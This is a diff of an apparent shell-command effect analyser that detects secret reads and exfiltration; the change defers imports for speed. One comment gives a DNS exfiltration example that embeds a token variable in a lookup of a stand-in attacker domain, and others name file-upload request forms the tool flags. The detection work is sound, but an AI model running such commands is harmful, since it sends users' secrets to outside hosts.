@@ -11,13 +11,12 @@ from __future__ import annotations
 
 import os
 
-from ..grammar.scan import scan
-from ..shell.paths import resolve as resolve_path
 from ..wildcard import match as wildcard_match
-from . import feed, loaded, words
+from . import feed, loaded
 from .model import TAG_CLASS, Effect
-from .values import HANDLERS as _VALUE_ROLES
-from .values import remote_secret, split_keyval
+
+# Loaded when a command needs them (DESIGN.md, Speed: `guard -- true` resolves no word): the
+# grammar scanner, path resolution, and the modules of the roles (words, values, sql).
 
 TYPE_CHECKING = False
 if TYPE_CHECKING:
@@ -124,6 +123,8 @@ class _Command:
         self.effects.append(Effect(kind, what, protected, anchor))
 
     def path(self, word: str) -> str | None:
+        from ..shell.paths import resolve as resolve_path
+
         word, cwd = self.locate(word)
         return resolve_path(word, cwd, self.ctx.home)
 
@@ -149,6 +150,9 @@ class _Command:
     # -- roles ---------------------------------------------------------------------------
 
     def read(self, w: Word) -> None:
+        from . import words
+        from .values import remote_secret
+
         if feed.is_unseen(w.value):  # `xargs cat < LIST`: names the line does not show
             source = feed.unseen_source(w.value)
             self.add("read", f"reads the files named in {source}, unseen", "secret", ())
@@ -174,6 +178,8 @@ class _Command:
     def printed(self, w: Word) -> None:
         """A word a command prints: a secret variable expanded into it is exposed (what a
         command substitution in it prints is judged as the command it is)."""
+        from . import words
+
         for name in words.printed_variables(w.value):
             if self.ctx.classes.secret_variable(name):
                 self.add("read", f"prints ${name}", "secret", (w.value,))
@@ -332,6 +338,8 @@ class _Command:
             self.add("change", f"copies to {w.value}", "production", anchor or (name,))
 
     def keyval(self, w: Word) -> None:
+        from .values import split_keyval
+
         pair = split_keyval(w.value)
         key, value = pair or ("", "")
         role = self.key_role(w.option, key) if pair else None
@@ -348,6 +356,8 @@ class _Command:
         return None
 
     def contact(self, w: Word) -> None:
+        from . import words
+
         for name in words.variables(w.value):  # `dig "$TOKEN.evil.example"`: the secret goes out
             if self.ctx.classes.secret_variable(name):
                 self.add("send", f"sends ${name} to {w.value}", "secret-exfiltration", ())
@@ -394,6 +404,8 @@ class _Command:
     def data(self, w: Word) -> None:
         """Data sent with a request: a secret variable expanded into it goes out; `@FILE`
         (`-F name=@FILE`, `--data-urlencode name@FILE`) sends the file."""
+        from . import words
+
         value = words.unquote(w.value)
         if not self.loopback_only():
             for name in words.variables(value):
@@ -424,6 +436,8 @@ class _Command:
 
     def hosts(self) -> list[str]:
         """The hosts this command names (URLs, hosts, remotes; proxies included)."""
+        from . import words
+
         inv = self.inv
         return [
             words.unquote(w.value).split("://", 1)[-1].split("/", 1)[0].rsplit("@", 1)[-1]
@@ -437,6 +451,7 @@ class _Command:
         return bool(hosts) and all(h.lower().startswith(_LOOPBACK) for h in hosts)
 
     def sql(self, w: Word) -> None:
+        from . import words
         from .sql import changes, files, irreversible, secrets
 
         for role, path in files(words.unquote(w.value)):  # `.output F`, `VACUUM INTO 'F'`
@@ -457,7 +472,7 @@ class _Command:
             self.add("read", f"prints ${w.value}", "secret", (w.value,))
 
     def role(self, w: Word) -> None:
-        handler = _ROLES.get(w.role)
+        handler = _ROLES.get(w.role) or _more_roles().get(w.role)
         if feed.is_unseen(w.value) and w.role != "read":
             return  # words read from a file the line does not show: judged as reads only
         if handler is not None:
@@ -507,7 +522,7 @@ def _is_remote(value: str) -> bool:
     return bool(colon) and bool(head) and "/" not in head and not head.startswith("-")
 
 
-_ROLES = {
+_ROLES: dict[str, Any] = {
     "read": _Command.read,
     "write": _Command.write,
     "runs": _Command.runs,
@@ -533,8 +548,19 @@ _ROLES = {
     "meta": _Command.meta,
     "owner": _Command.owner,
     "credentials-to": loaded.credentials_to,
-    **_VALUE_ROLES,
 }
+
+
+def _more_roles() -> dict[str, Any]:
+    """The roles handled by effects.values, merged into _ROLES with the first word that needs
+    a handler not found there."""
+    if "key" not in _ROLES:
+        from .values import HANDLERS
+
+        _ROLES.update(HANDLERS)
+    return _ROLES
+
+
 _LOOPBACK = ("localhost", "127.", "[::1]", "::1", "0.0.0.0", "ip6-localhost")  # noqa: S104
 
 
@@ -660,6 +686,9 @@ def resolve(
     name = os.path.basename(argv[0]) if argv else ""
     c.view = ctx.view(name) if name else None
     if c.view is not None:
+        from ..grammar.scan import scan
+        from ..shell.paths import resolve as resolve_path
+
         c.inv = scan(argv, c.view)
         if c.inv.no_effect(c.view):
             return c.effects  # a dry run or a check: what it reads is all it does
@@ -726,13 +755,18 @@ def _edit_in_place(inv: Invocation) -> None:
 def no_effect(argv: list[str], ctx: Context) -> bool:
     """Does the grammar say this call changes and runs nothing (a dry run, a syntax check)?"""
     view = ctx.view(os.path.basename(argv[0])) if argv else None
-    return view is not None and scan(argv, view).no_effect(view)
+    if view is None:
+        return False
+    from ..grammar.scan import scan
+
+    return scan(argv, view).no_effect(view)
 
 
 def _unknown(c: _Command, fed: list[str] | None, choices: dict[int, list[str]] | None) -> None:
     """A program without a grammar: its operands may be files it reads (`cat`, `less`); one
     that names a secret is taken for a secret read."""
-    from ..grammar.scan import Word
+    if len(c.argv) > 1:  # `true` has no word to read
+        from ..grammar.scan import Word
 
     operands = []
     for i, arg in enumerate(c.argv[1:], 1):
@@ -788,6 +822,8 @@ def _links(c: _Command) -> None:
             return
         if os.path.isdir(link) and not os.path.islink(link):
             link = os.path.join(link, os.path.basename(targets[0]))
+        from ..shell.paths import resolve as resolve_path
+
         target = resolve_path(targets[0], os.path.dirname(link), c.ctx.home)
         if target:
             c.ctx.line.links[link] = target
